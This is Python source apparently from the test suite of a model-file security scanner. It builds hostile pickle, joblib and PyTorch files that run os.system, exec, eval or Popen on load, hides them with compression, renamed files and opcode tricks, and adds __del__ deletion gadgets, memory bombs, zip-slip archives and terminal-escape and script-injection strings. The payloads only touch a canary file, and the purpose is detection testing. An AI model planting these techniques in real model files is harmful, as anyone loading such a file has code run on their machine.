def build_ndarraywrapper_self_reference(directory: Path, canary: Path) -> Path:
    # One self-contained file: the NDArrayWrapper names the file itself, so joblib.load runs a
    # plain pickle.load of the same bytes, in which the following NumpyArrayWrapper's "array
    # data" (skipped by joblib's own reader) runs as opcodes. The tuple pushes one object.
    filename = "model.joblib"
    fragment = b"(" + op_ndarray_wrapper(filename) + _opcodes_as_array_bytes(canary) + b"t"
    return _spliced_model_file(directory / filename, fragment, container="pickle", protocol=2)


def _estimator_with_planted_hook(hook: str, func: tuple[str, str], argument: bytes) -> bytes:
    """NEWOBJ LinearRegression (a known class), then BUILD ``{hook: func}`` plants ``func`` in
    its instance dict, which shadows the class: the next BUILD calls ``inst.__setstate__``,
    APPEND calls ``inst.append``. ``argument`` is the opcode sequence that triggers it."""
    estimator = op_global("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    hijack = b"}(" + op_str("fit_intercept") + b"\x88" + op_str(hook) + op_global(*func) + b"ub"
    return estimator + hijack + argument


def build_known_class_setstate_savez_compressed(directory: Path, canary: Path) -> Path:
    # BUILD "canary" -> numpy.savez_compressed("canary") writes canary.npz.
    fragment = _estimator_with_planted_hook(
        "__setstate__", ("numpy", "savez_compressed"), op_str(str(canary)) + b"b"
    )
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=4)


def build_known_class_append_npyio_savez(directory: Path, canary: Path) -> Path:
    # APPEND "canary" -> numpy.lib._npyio_impl.savez("canary") writes canary.npz.
    fragment = _estimator_with_planted_hook(
        "append", ("numpy.lib._npyio_impl", "savez"), op_str(str(canary)) + b"a"
    )
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def _dumbdbm_gadget(canary: Path) -> bytes:
    """``dbm.dumb._Database`` spelled with its Python 2 name (mapped only while proto < 3)."""
    state = {
        "_index": {},
        "_modified": True,
        "_dirfile": str(canary),
        "_bakfile": str(canary) + ".bak",
        "_mode": 0o644,
    }
    return op_global("dumbdbm", "_Database") + b")\x81" + op_lit(state) + b"b"


def build_compat_pickle_late_proto2(directory: Path, canary: Path) -> Path:
    # A protocol-4 joblib stream switches to PROTO 2 for the gadget (pickle maps names by the
    # *current* protocol: "dumbdbm" becomes dbm.dumb), then back to PROTO 4.
    fragment = b"\x80\x02" + _dumbdbm_gadget(canary) + b"\x80\x04"
    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)


def build_compat_pickle_proto4_opcode_in_proto2(directory: Path, canary: Path) -> Path:
    # A protocol-2 pickle using one protocol-4 opcode (SHORT_BINUNICODE + POP) before the
    # gadget: the stream's opcodes reach protocol 4 but PROTO is still 2, so names are mapped.
    fragment = b"\x8c\x01x0" + _dumbdbm_gadget(canary)
    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=2)


def _payload_then(directory: Path, canary: Path, name: str, after: bytes,
                  prefix: bytes = b"\x80\x04") -> Path:
    """``os.system(cmd)`` (run by a real load), POP, then ``after``: what comes after the
    payload must not make the finding disappear (findings survive errors)."""
    payload = op_call(op_global("os", "system"), op_str(_shell_cmd(canary))) + b"0"
    return _write(directory / name, prefix + payload + after)


def build_payload_then_setitem_on_list(directory: Path, canary: Path) -> Path:
    # SETITEM on a list: pickle.load calls list.__setitem__ (IndexError), after the payload.
    return _payload_then(directory, canary, "model.pkl", b"]K\x00K\x01s.")


def build_payload_then_long4_65537(directory: Path, canary: Path) -> Path:
    # A 65,537-byte LONG4 after the payload: pickle.load reads it (a big int) and finishes.
    return _payload_then(directory, canary, "model.pkl",
                         b"\x8b" + struct.pack("<i", 65_537) + b"\x01" * 65_537 + b".")


def build_payload_then_ext1(directory: Path, canary: Path) -> Path:
    # EXT1 of a code nobody registered: pickle.load fails there, after the payload ran.
    return _payload_then(directory, canary, "model.pkl", b"\x82\x01.")


def build_payload_then_break(directory: Path, canary: Path) -> Path:
    # os.system, then a byte that is no opcode: a broken file whose payload already ran.
    return _payload_then(directory, canary, "model.pkl", b"\xff\xfe")


def build_bzh9_prefixed_plain_pickle(directory: Path, canary: Path) -> Path:
    # BINBYTES whose 4-byte length is b"Zh9\x00": the file starts with bz2's magic "BZh9" but
    # is a plain protocol-0/1 pickle (pickle.load reads 3,762,266 bytes, pops them, goes on).
    size = int.from_bytes(b"Zh9\x00", "little")
    return _payload_then(directory, canary, "model.pkl", b"N.",
                         prefix=b"B" + struct.pack("<I", size) + bytes(size) + b"0")


# --------------------------------------------------------------------------------------------
# Registry

EXEC: tuple[str, ...] = ("builtins.exec", "__builtin__.exec")
EVAL: tuple[str, ...] = ("builtins.eval", "__builtin__.eval")
POPEN: tuple[str, ...] = ("subprocess.Popen", "commands.Popen")
CALL_SEVERITIES: tuple[str, ...] = ("dangerous", "unknown call")

TECHNIQUES: list[Technique] = [
    Technique(
        "proto0_os_system",
        build_proto0_os_system,
        OS_SYSTEM,
        "pickle",
        description="protocol 0 pickle, __reduce__ -> os.system",
    ),
    Technique(
        "proto2_py2_builtin_exec",
        build_proto2_py2_builtin_exec,
        EXEC,
        "pickle",
        description="protocol 2 pickle of a forest, exec written as __builtin__.exec",
    ),
    Technique(
        "proto4_subprocess_check_call",
        build_proto4_subprocess_check_call,
        ("subprocess.check_call",),
        "pickle",
        description="protocol 4 pickle, subprocess.check_call(argv)",
    ),
    Technique(
        "proto5_eval_with_buffers",
        build_proto5_eval_with_buffers,
        EVAL,
        "pickle",
        description="protocol 5 pickle (BYTEARRAY8 buffers), builtins.eval",
    ),
    Technique(
        "opcode_global_protocol0",
        build_opcode_global_protocol0,
        OS_SYSTEM,
        "pickle",
        description="GLOBAL os.system + REDUCE spliced into a protocol 0 model pickle",
    ),
    Technique(
        "opcode_stack_global_exec",
        build_opcode_stack_global_exec,
        EXEC,
        "joblib",
        description="STACK_GLOBAL builtins.exec + REDUCE spliced into a joblib file",
    ),
    Technique(
        "opcode_inst_subprocess_call",
        build_opcode_inst_subprocess_call,
        ("subprocess.call",),
        "pickle",
        description="INST subprocess.call(argv) in a protocol 2 pickle",
    ),
    Technique(
        "opcode_obj_os_system",
        build_opcode_obj_os_system,
        OS_SYSTEM,
        "joblib",
        description="OBJ os.system(cmd) spliced into a joblib file",
    ),
    Technique(
        "opcode_newobj_marshal_function",
        build_opcode_newobj_marshal_function,
        ("marshal.loads", "types.FunctionType", "builtins.function"),
        "joblib",
        description="NEWOBJ FunctionType(marshal.loads(code), {}) then REDUCE call",
    ),
    Technique(
        "opcode_newobj_ex_codetype",
        build_opcode_newobj_ex_codetype,
        ("types.CodeType", "types.FunctionType", "builtins.code", "builtins.function"),
        "pickle",
        description="REDUCE types.CodeType(...), NEWOBJ_EX FunctionType, REDUCE call",
    ),
    Technique(
        "opcode_build_setstate_hijack",
        build_opcode_build_setstate_hijack,
        OS_SYSTEM,
        "joblib",
        description="BUILD sets __setstate__=os.system on an instance, second BUILD calls it",
    ),
    Technique(
        "opcode_getattr_import_chain",
        build_opcode_getattr_import_chain,
        ("builtins.getattr", "builtins.__import__"),
        "joblib",
        description="getattr(__import__('os'), 'system')(cmd) as raw opcodes",
    ),
    Technique(
        "opcode_memo_indirection_eval",
        build_opcode_memo_indirection_eval,
        EVAL,
        "pickle",
        description="eval stashed with LONG_BINPUT, popped, fetched with LONG_BINGET, called",
    ),
    Technique(
        "opcode_dotted_name_in_sklearn_module",
        build_opcode_dotted_name_in_sklearn_module,
        ("sklearn.datasets._base.os.system", *OS_SYSTEM),
        "joblib",
        description="STACK_GLOBAL('sklearn.datasets._base', 'os.system') dotted lookup",
    ),
    Technique(
        "opcode_copyreg_reconstructor_popen",
        build_opcode_copyreg_reconstructor_popen,
        ("subprocess.Popen",),
        "joblib",
        description="copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__; .wait()",
    ),
    Technique(
        "opcode_methodcaller_sys_modules",
        build_opcode_methodcaller_sys_modules,
        ("operator.methodcaller", "_operator.methodcaller", "sys.modules"),
        "joblib",
        description="methodcaller('system', cmd)(methodcaller('get', 'os')(sys.modules))",
    ),
    Technique(
        "opcode_attrgetter_os_path",
        build_opcode_attrgetter_os_path,
        ("operator.attrgetter", "_operator.attrgetter"),
        "pickle",
        description="attrgetter('os.system')(GLOBAL os.path)(cmd) in a protocol 3 pickle",
    ),
    Technique(
        "after_large_array_reduce",
        build_after_large_array_reduce,
        OS_SYSTEM,
        "joblib",
        description="os.system recipe stored after a 2 MiB inline array in a joblib file",
    ),
    Technique(
        "after_large_array_opcodes",
        build_after_large_array_opcodes,
        OS_SYSTEM,
        "joblib",
        description="GLOBAL posix.system fragment spliced after a 2 MiB inline array",
    ),
    Technique(
        "joblib_zlib_exec",
        build_joblib_zlib_exec,
        EXEC,
        "joblib",
        compression="zlib",
        description="zlib-compressed joblib forest, builtins.exec",
    ),
    Technique(
        "joblib_gzip_subprocess_run",
        build_joblib_gzip_subprocess_run,
        ("subprocess.run",),
        "joblib",
        compression="gzip",
        description="gzip-compressed joblib, subprocess.run(argv)",
    ),
    Technique(
        "joblib_bz2_os_system",
        build_joblib_bz2_os_system,
        OS_SYSTEM,
        "joblib",
        compression="bz2",
        description="bz2-compressed joblib, os.system",
    ),
    Technique(
        "joblib_xz_eval",
        build_joblib_xz_eval,
        EVAL,
        "joblib",
        compression="xz",
        description="xz-compressed joblib, builtins.eval",
    ),
    Technique(
        "joblib_lzma_runpy",
        build_joblib_lzma_runpy,
        ("runpy._run_code",),
        "joblib",
        compression="lzma",
        description="lzma-compressed joblib, runpy._run_code(src, {})",
    ),
    Technique(
        "joblib_lz4_partial",
        build_joblib_lz4_partial,
        (*OS_SYSTEM, "functools.partial"),
        "joblib",
        compression="lz4",
        description="lz4-compressed joblib, functools.partial(os.system, cmd)()",
    ),
    Technique(
        "mislabelled_gzip_joblib_as_pkl",
        build_mislabelled_gzip_joblib_as_pkl,
        ("pydoc.locate",),
        "joblib",
        compression="gzip",
        description="gzip joblib named model.pkl, pydoc.locate('os.system')(cmd)",
    ),
    Technique(
        "mislabelled_pickle_as_joblib",
        build_mislabelled_pickle_as_joblib,
        ("pkgutil.resolve_name",),
        "pickle",
        description="plain pickle named model.joblib, pkgutil.resolve_name('os:system')(cmd)",
    ),
    Technique(
        "no_extension_zlib_import_module",
        build_no_extension_zlib_import_module,
        ("importlib.import_module", "builtins.getattr"),
        "joblib",
        compression="zlib",
        description="zlib joblib named 'model', getattr(import_module('os'), 'system')(cmd)",
    ),
    Technique(
        "object_array_nested_pickle",
        build_object_array_nested_pickle,
        EXEC,
        "joblib",
        description="exec recipe inside an object-dtype array (nested pickle in joblib)",
    ),
    Technique(
        "dict_bundle",
        build_dict_bundle,
        OS_SYSTEM,
        "joblib",
        description="top-level {'model': forest, 'meta': {..., os.system recipe}}",
    ),
    Technique(
        "tuple_bundle_open",
        build_tuple_bundle_open,
        ("io.open", "builtins.open", "_io.open"),
        "pickle",
        description="top-level (model, open(canary, 'w'))",
    ),
    Technique(
        "nested_pickle_loads",
        build_nested_pickle_loads,
        ("_pickle.loads", "pickle.loads"),
        "joblib",
        description="pickle.loads(<inner pickle calling os.system>)",
    ),
    Technique(
        "pipeline_nested_step_popen",
        build_pipeline_nested_step_popen,
        POPEN,
        "joblib",
        description="Popen(argv).wait() on the LogisticRegression step of a Pipeline",
    ),
    Technique(
        "forest_member_compile_exec",
        build_forest_member_compile_exec,
        (*EXEC, "builtins.compile", "__builtin__.compile"),
        "joblib",
        description="exec(compile(src)) on estimators_[1] of a RandomForestClassifier",
    ),
    Technique(
        "numpy_testing_runstring",
        build_numpy_testing_runstring,
        ("numpy.testing._private.utils.runstring",),
        "joblib",
        description="numpy.testing._private.utils.runstring(src, {}) (exec in numpy)",
    ),
    Technique(
        "joblib_protocol2_commands_popen",
        build_joblib_protocol2_commands_popen,
        POPEN,
        "joblib",
        description="joblib protocol 2: Popen written as commands.Popen, then .wait()",
    ),
    Technique(
        "operator_methodcaller_recipe",
        build_operator_methodcaller_recipe,
        ("operator.methodcaller", "_operator.methodcaller", "builtins.__import__"),
        "joblib",
        compression="zlib",
        description="methodcaller('system', cmd)(__import__('os')), zlib joblib",
    ),
    Technique(
        "sklearn_funcwrapper_dotted_os_system",
        build_sklearn_funcwrapper_dotted_os_system,
        (
            "sklearn.utils.parallel._FuncWrapper",
            "sklearn.datasets._base.os.system",
            *OS_SYSTEM,
        ),
        "joblib",
        severities=CALL_SEVERITIES,
        description="sklearn _FuncWrapper calls os.system reached as sklearn.datasets._base.os",
    ),
    Technique(
        "sklearn_parallel_run_python_script",
        build_sklearn_parallel_run_python_script,
        (
            "sklearn.utils.parallel.Parallel",
            "sklearn.utils._testing.assert_run_python_script_without_output",
        ),
        "joblib",
        severities=CALL_SEVERITIES,
        description="sklearn Parallel runs assert_run_python_script_without_output(src)",
    ),
    Technique(
        "sklearn_funcwrapper_get_data_home_mkdir",
        build_sklearn_funcwrapper_get_data_home_mkdir,
        ("sklearn.utils.parallel._FuncWrapper", "sklearn.datasets._base.get_data_home"),
        "joblib",
        severities=CALL_SEVERITIES,
        description="sklearn _FuncWrapper(get_data_home)(path) creates a directory",
    ),
    Technique(
        "joblib_memory_location_mkdir",
        build_joblib_memory_location_mkdir,
        ("joblib.memory.Memory",),
        "pickle",
        severities=CALL_SEVERITIES,
        description="joblib.Memory(location) called with arguments creates a directory",
    ),
    Technique(
        "dbm_dumb_del_gadget",
        build_dbm_dumb_del_gadget,
        ("dbm.dumb._Database",),
        "joblib",
        severities=CALL_SEVERITIES,
        description="NEWOBJ+BUILD dbm.dumb._Database; its __del__ writes/renames/unlinks files",
    ),
    Technique(
        "numpy_datasource_del_rmtree",
        build_numpy_datasource_del_rmtree,
        ("numpy.lib._datasource.DataSource",),
        "joblib",
        severities=CALL_SEVERITIES,
        effect="delete",
        description="NEWOBJ+BUILD numpy DataSource; its __del__ rmtree()s an attacker path",
    ),
    Technique(
        "object_array_nested_array_wrapper_bytes",
        build_object_array_nested_array_wrapper_bytes,
        OS_SYSTEM,
        "joblib",
        description="NumpyArrayWrapper in an object-array pickle; its 'array bytes' are opcodes",
    ),
    Technique(
        "plain_pickle_array_wrapper_bytes",
        build_plain_pickle_array_wrapper_bytes,
        OS_SYSTEM,
        "pickle",
        description="model pickle: unaligned NumpyArrayWrapper, then opcodes pickle.load runs",
    ),
    Technique(
        "ndarraywrapper_sidecar_pickle",
        build_ndarraywrapper_sidecar_pickle,
        OS_SYSTEM,  # hpinspect reads the sidecar pickle (load/joblib_arrays.py)
        "joblib",
        description="joblib<0.10 NDArrayWrapper: np.load(sidecar, allow_pickle=True)",
    ),
    Technique(
        "ndarraywrapper_self_reference",
        build_ndarraywrapper_self_reference,
        OS_SYSTEM,  # the file is its own sidecar: its plain pickle.load reading runs it
        "joblib",
        description="NDArrayWrapper naming its own file: np.load runs the wrapper's array bytes",
    ),
    Technique(
        "known_class_setstate_savez_compressed",
        build_known_class_setstate_savez_compressed,
        ("numpy.savez_compressed",),
        "pickle",
        canary_suffix=".npz",
        description="LinearRegression instance __setstate__ = numpy.savez_compressed, BUILD",
    ),
    Technique(
        "known_class_append_npyio_savez",
        build_known_class_append_npyio_savez,
        ("numpy.lib._npyio_impl.savez",),
        "joblib",
        canary_suffix=".npz",
        description="LinearRegression instance append = numpy.lib._npyio_impl.savez, APPEND",
    ),
    Technique(
        "compat_pickle_late_proto2",
        build_compat_pickle_late_proto2,
        ("dbm.dumb._Database",),
        "joblib",
        severities=CALL_SEVERITIES,
        description="PROTO 4 ... PROTO 2 'dumbdbm _Database' (maps to dbm.dumb) ... PROTO 4",
    ),
    Technique(
        "compat_pickle_proto4_opcode_in_proto2",
        build_compat_pickle_proto4_opcode_in_proto2,
        ("dbm.dumb._Database",),
        "pickle",
        severities=CALL_SEVERITIES,
        description="PROTO 2 stream with a protocol-4 opcode, then 'dumbdbm _Database'",
    ),
    Technique(
        "payload_then_setitem_on_list",
        build_payload_then_setitem_on_list,
        OS_SYSTEM,
        "pickle",
        description="os.system, then SETITEM on a list (pickle.load breaks after the payload)",
    ),
    Technique(
        "payload_then_long4_65537",
        build_payload_then_long4_65537,
        OS_SYSTEM,
        "pickle",
        description="os.system, then a 65,537-byte LONG4",
    ),
    Technique(
        "payload_then_ext1",
        build_payload_then_ext1,
        OS_SYSTEM,
        "pickle",
        description="os.system, then EXT1 of an unregistered code (pickle.load breaks there)",
    ),
    Technique(
        "payload_then_break",
        build_payload_then_break,
        OS_SYSTEM,
        "pickle",
        description="os.system, then bytes that are no opcode (a broken file, payload ran)",
    ),
    Technique(
        "bzh9_prefixed_plain_pickle",
        build_bzh9_prefixed_plain_pickle,
        OS_SYSTEM,
        "pickle",
        description="plain pickle whose first bytes 'BZh9' look like bz2 (BINBYTES length)",
    ),
]


# --------------------------------------------------------------------------------------------
# Crafted files without (or beside) a code payload: memory, depth, numpy states, graph walks
# and hostile text. The robustness, bounded-walk and neutral-output tests build their files
# with these builders, and tests/security/test_sweep_children.py runs every one of them (with
# every technique above) through a real ``python -m hpinspect`` child.

LINEAR = op_global("sklearn.linear_model._base", "LinearRegression")


def np_dtype(code: str) -> bytes:
    """``numpy.dtype(code, False, True)``, as numpy pickles a dtype."""
    return op_call(op_global("numpy", "dtype"), op_str(code), b"\x89", b"\x88")


def estimator_with(attribute: str, value: bytes) -> bytes:
    """A protocol-2 pickle of a LinearRegression whose ``attribute`` is ``value``."""
    return b"\x80\x02" + LINEAR + b")\x81}(" + op_str(attribute) + value + b"ub."


def range_list_pickle(n: int) -> bytes:
    """``builtins.list(builtins.range(n))``: an "inert constructor" that would allocate n ints."""
    produce = op_call(op_global("builtins", "range"), op_int(n))
    return b"\x80\x02" + op_call(op_global("builtins", "list"), produce) + b"."


def huge_scalar_pickle() -> bytes:
    """``numpy.core.multiarray.scalar(dtype('(1000000,2000)u1'))``: a 2 GB zero scalar."""
    scalar = op_call(op_global("numpy.core.multiarray", "scalar"), np_dtype("(1000000,2000)u1"))
    return b"\x80\x02" + scalar + b"."


def empty_sets_zlib(n: int) -> bytes:
    """A zlib stream (joblib's zlib container) of ``n`` EMPTY_SET opcodes left on the stack."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"\x80\x02")]
    chunk = b"\x8f" * (1 << 20)
    for start in range(0, n, len(chunk)):
        parts.append(compressor.compress(chunk[: min(len(chunk), n - start)]))
    parts.append(compressor.compress(b"N."))
    parts.append(compressor.flush())
    return b"".join(parts)


def tuple1_chain_as_key(depth: int) -> bytes:
    """``{(((None,),),...): None}``: NONE + TUPLE1 * depth, no MARKs; SETITEM hashes the key."""
    return b"\x80\x02}N" + b"\x85" * depth + b"Ns."


def nested_estimators(depth: int, key: str) -> bytes:
    """``depth`` LinearRegression stubs, each the value of attribute ``key`` of the previous
    one (no MARKs). The class and the key are memoised, so a long key costs its length once."""
    head = (
        b"\x80\x02"
        + LINEAR
        + b"q\x01"  # BINPUT 1: the class
        + op_str(key)
        + b"q\x020"  # BINPUT 2: the key, POP
    )
    level = b"h\x01)\x81}h\x02"  # NEWOBJ stub, {} and the key: its value is the next level
    leaf = b"h\x01)\x81}b"  # the innermost stub, empty state
    close = b"sb"  # SETITEM, BUILD
    return head + level * (depth - 1) + leaf + close * (depth - 1) + b"."


def frombuffer_with_dtype_state(state: bytes) -> bytes:
    """``numpy.core.numeric._frombuffer(8 bytes, V8 dtype after BUILD state, (1,), "C")``.

    numpy's ``dtype.__setstate__`` trusts its state; the bytes are 0x41 * 8, which an object
    field would turn into the pointer 0x4141414141414141.
    """
    dtype = np_dtype("V8") + state + b"b"
    data = b"C\x08" + struct.pack("<Q", 0x4141414141414141)  # SHORT_BINBYTES
    return op_call(
        op_global("numpy.core.numeric", "_frombuffer"),
        data,
        dtype,
        op_tuple(op_int(1)),
        op_str("C"),
    )


def v8_state(field_dtype: str, offset: int) -> bytes:
    """dtype state ``(3, "|", None, ("a",), {"a": (dtype(field_dtype), offset)}, 8, 1, 0)``:
    dtypeflags 0, so an object field is *not* flagged (``hasobject`` stays False)."""
    fields = b"}" + op_str("a") + op_tuple(np_dtype(field_dtype), op_int(offset)) + b"s"
    return op_tuple(
        op_int(3), op_str("|"), b"N", op_tuple(op_str("a")), fields, op_int(8), op_int(1),
        op_int(0),
    )


def long4(value: int) -> bytes:
    """LONG4 of ``value`` (no int-to-text conversion: any number of digits)."""
    data = value.to_bytes((value.bit_length() >> 3) + 1, "little", signed=True)
    return b"\x8b" + struct.pack("<i", len(data)) + data


def dag_of_estimators(levels: int) -> bytes:
    """Level i is a LinearRegression whose ``a_`` and ``b_`` are both level i-1: 2**levels
    paths through ``levels + 1`` objects (memo references, no copies)."""
    out = b"\x80\x02" + LINEAR + b"q\x00)\x81}b"
    for i in range(1, levels):
        out += b"r" + struct.pack("<I", i) + b"0"  # LONG_BINPUT i, POP
        get = b"j" + struct.pack("<I", i)  # LONG_BINGET i
        out += b"h\x00)\x81}(" + op_str("a_") + get + op_str("b_") + get + b"ub"
    return out + b"."


def many_estimators(n: int) -> bytes:
    """A dict of ``n`` LinearRegression stubs (one memoised class)."""
    entries = b"".join(op_str(f"m{i}") + b"h\x00)\x81}b" for i in range(n))
    return b"\x80\x02" + LINEAR + b"q\x000}(" + entries + b"u."


def long_global_name(length: int) -> bytes:
    """A call of the global ``mod.AAAA…`` (``length`` characters of name)."""
    return b"\x80\x02cmod\n" + b"A" * length + b"\n)R."


def frame_past_eof(canary: Path) -> bytes:
    """A protocol-4 frame longer than the file around ``os.system('touch canary')``: the C
    unpickler refuses the frame, joblib's pure-Python one runs the call."""
    cmd = f"touch {canary}".encode()
    body = (b"\x8c\x02os\x8c\x06system\x93"          # STACK_GLOBAL os.system
            + b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85R.")  # (cmd,) REDUCE STOP
    declared = len(body) + 64  # the frame claims 64 bytes the file does not have
    return b"\x80\x04\x95" + declared.to_bytes(8, "little") + body


def bytearrays_pickle(count: int, size: int) -> bytes:
    """A list of ``count`` calls ``bytearray(size)`` (one memoised global): 3,000 calls of
    1 MiB once reached 3 GiB from a 27 KB file."""
    call = b"h\x00" + op_tuple(op_int(size)) + b"R"
    return b"\x80\x02" + op_global("builtins", "bytearray") + b"q\x000](" + call * count + b"e."


def zlib_binbytes8(declared: int, present: int) -> bytes:
    """A joblib-style zlib stream holding a BINBYTES8 that declares ``declared`` bytes, of
    which ``present`` zero bytes follow (a small file promising gigabytes)."""
    compressor = zlib.compressobj(1)
    parts = [compressor.compress(b"\x80\x04\x8e" + struct.pack("<Q", declared))]
    chunk = bytes(1 << 20)
    for start in range(0, present, len(chunk)):
        parts.append(compressor.compress(chunk[: min(len(chunk), present - start)]))
    parts.append(compressor.compress(b"."))
    parts.append(compressor.flush())
    return b"".join(parts)


def huge_dtype_item_pickle() -> bytes:
    """An ndarray state whose dtype item is 2 GB (``V2000000000``) and shape (1,): 299 bytes
    once made hpinspect allocate 1.9 GiB."""
    reconstruct = op_call(op_global("numpy.core.multiarray", "_reconstruct"),
                          op_global("numpy", "ndarray"), op_tuple(op_int(0)), op_bytes(b"b"))
    state = op_tuple(op_int(1), op_tuple(op_int(1)), np_dtype("V2000000000"), b"\x89",
                     op_bytes(b"\x00" * 16))
    return b"\x80\x02" + reconstruct + state + b"b."


HOSTILE_TEXT: tuple[str, ...] = (
    "\x1b[2J\x1b[3J\x1b[H",                           # clear screen and scrollback, home
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]0;pwned title\x07",                          # OSC window title
    "\x9b2J",                                          # C1 CSI
    "\u202eexe.txt\u202c",                             # right-to-left override
    "\u2066isolate\u2069",                             # bidi isolate
    "[red]markup[/red] [link=http://e.example]x[/link]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](http://evil.example) ![img](http://e.example/i.png)",
    "a|b\n| dangerous | os.system | fake |",            # pipes and a forged table row
    "line\r\nUNSAFE? no: safe",                        # carriage return rewrite
    "lone\ud800surrogate",
    "undecodable\udcff",
    "zero\u200bwidth\ufeff",
    "bell\x07back\x08space\x7f",
    "tag\U000e0041chars",
    "`code` **bold** _em_ ~~strike~~",
)
"""Strings no renderer may pass through raw (names and values of :func:`build_hostile_text`)."""


def _binunicode(text: str) -> bytes:
    data = text.encode("utf-8", "surrogatepass")  # as pickle itself writes str
    return b"X" + struct.pack("<I", len(data)) + data


def build_hostile_text(directory: Path, canary: Path) -> Path:
    """A fitted LogisticRegression whose attribute names and values are :data:`HOSTILE_TEXT`,
    one attribute calling a global whose module and name are hostile too, and an
    ``os.system`` payload (protocol 2: no frames, so a fragment can replace a value)."""
    model = fresh_model("logreg")
    for index, text in enumerate(HOSTILE_TEXT):
        setattr(model, text, text)
        setattr(model, f"value_{index}_", text)
    model.payload_ = Call(os.system, f"touch {canary}")  # runs before the bad import fails
    model.hostile_class_ = "PLACEHOLDER-CLASS"
    data = pickle.dumps(model, protocol=2)
    placeholder = _binunicode("PLACEHOLDER-CLASS")
    assert data.count(placeholder) == 1
    fragment = (_binunicode("evil\x1b[2J.mod\u202e") + _binunicode("Cls\x1b]0;x\x07\ud800")
                + b"\x93)R")  # STACK_GLOBAL, EMPTY_TUPLE, REDUCE: a call of that global
    path = directory / "hostile.pkl"
    path.write_bytes(data.replace(placeholder, fragment))
    return path


def build_control_file_name(directory: Path, canary: Path) -> Path:
    """An ``os.system`` payload in a file whose *name* clears the screen and sets the title."""
    path = directory / "model\x1b[2J\x1b[3J\x1b[H\x1b]0;title\x07.pkl"
    return _write(path, pickle.dumps(_with_payload("logreg", Call(os.system,
                                                                   _shell_cmd(canary)))))


def object_array_elements(canary: Path) -> list[object]:
    """Tricky elements of an object array: nested lists, dicts, None, control characters,
    and a call of ``os.system`` (the one element a real load would run)."""
    return [[1, [2, [3]]], {"k": {"n": None}}, None, "ctl\x1b[2J\x1b]0;t\x07",
            Call(os.system, _shell_cmd(canary)), 7.5]


def build_object_array_elements(directory: Path, canary: Path) -> Path:
    """A pickle of a (2, 3) object array of :func:`object_array_elements`."""
    array = np.empty((2, 3), dtype=object)
    for index, item in enumerate(object_array_elements(canary)):
        array[divmod(index, 3)] = item
    return _write(directory / "object_array.pkl", pickle.dumps({"data": array}, protocol=4))


# PyTorch checkpoints (torch is imported only when one is built)
TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_SYS_INFO = {"protocol_version": 1001, "little_endian": True,
                  "type_sizes": {"short": 2, "int": 4, "long": 4}}


def build_torch_legacy_payload(position: int) -> BuildFn:
    """A legacy (pre-1.6) torch file of five pickles with ``os.system`` in pickle ``position``
    (2: sys info, 3: the object, 4: storage keys)."""
    def build(directory: Path, canary: Path) -> Path:
        payload = Call(os.system, _shell_cmd(canary))
        parts: list[Any] = [TORCH_LEGACY_MAGIC, 1001, TORCH_SYS_INFO, {"w": [1.0, 2.0]}, []]
        parts[position] = payload if position != 3 else {"w": payload}
        path = directory / f"legacy{position}.pt"
        with path.open("wb") as out:
            for part in parts:
                out.write(pickle.dumps(part, protocol=2))
        return path
    return build


def build_torch_zip_payload(directory: Path, canary: Path) -> Path:
    """A zip checkpoint (``torch.save``) with ``os.system`` beside a tensor."""
    import torch

    path = directory / "hostile.pt"
    torch.save({"weights": torch.ones(3), "extra": Call(os.system, _shell_cmd(canary))}, path)
    return path


def build_torch_rebuild_abuse(directory: Path, canary: Path) -> Path:
    """``torch._tensor._rebuild_from_type_v2(os.system, Tensor, (cmd,), {})``: torch's own
    rebuild helper calling a foreign function."""
    import torch

    path = directory / "abuse.pt"
    torch.save({"t": Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor,
                          (_shell_cmd(canary),), {})}, path)
    return path


def build_zip_slip(directory: Path, canary: Path) -> Path:
    """A zip whose pickle member is named ``../../outside.pkl`` (a finding: zip-slip)."""
    import zipfile

    path = directory / "slip.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("../../outside.pkl", pickle.dumps({"a": 1}))
    return path


def build_torch_short_storage(directory: Path, canary: Path) -> Path:
    """A zip checkpoint whose storage holds 100 bytes of a 4,000-byte tensor."""
    import zipfile

    import torch

    good = directory / "good.pt"
    torch.save({"w": torch.ones(1000)}, good)
    bad = directory / "short_storage.pt"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, data[:100] if info.filename.endswith("/data/0") else data)
    good.unlink()
    return bad


def _crafted(name: str, data: bytes) -> BuildFn:
    def build(directory: Path, canary: Path) -> Path:
        return _write(directory / name, data)
    return build


@dataclass(frozen=True)
class Crafted:
    """One hostile file of the sweep: how to build it and how hpinspect must end on it."""

    name: str
    build: BuildFn
    codes: frozenset[int]
    """Acceptable exit codes (2: refused as broken or over a limit)."""
    unsafe: bool = False
    """A code payload a real load runs: the exit code must be 3."""
    control_text: bool = False
    """Names or values with ANSI/OSC sequences: the emulated screen must keep the banner."""


def _case(name: str, data: Callable[[], bytes], codes: set[int]) -> Crafted:
    def build(directory: Path, canary: Path) -> Path:
        return _write(directory / name, data())
    return Crafted(name, build, frozenset(codes))


CRAFTED: tuple[Crafted, ...] = (
    _case("range.pkl", lambda: range_list_pickle(1000), {0}),
    _case("huge_range.pkl", lambda: range_list_pickle(10**12), {2}),
    _case("huge_scalar.pkl", huge_scalar_pickle, {2}),
    _case("huge_dtype_item.pkl", huge_dtype_item_pickle, {2}),
    _case("sets.joblib", lambda: empty_sets_zlib(3_000_000), {2}),
    _case("bytearrays.pkl", lambda: bytearrays_pickle(3000, 1 << 20), {0, 2}),
    _case("binbytes8.joblib", lambda: zlib_binbytes8(1_900_000_000, 32 << 20), {2}),
    _case("tuple_key_2m.pkl", lambda: tuple1_chain_as_key(2_000_000), {2}),
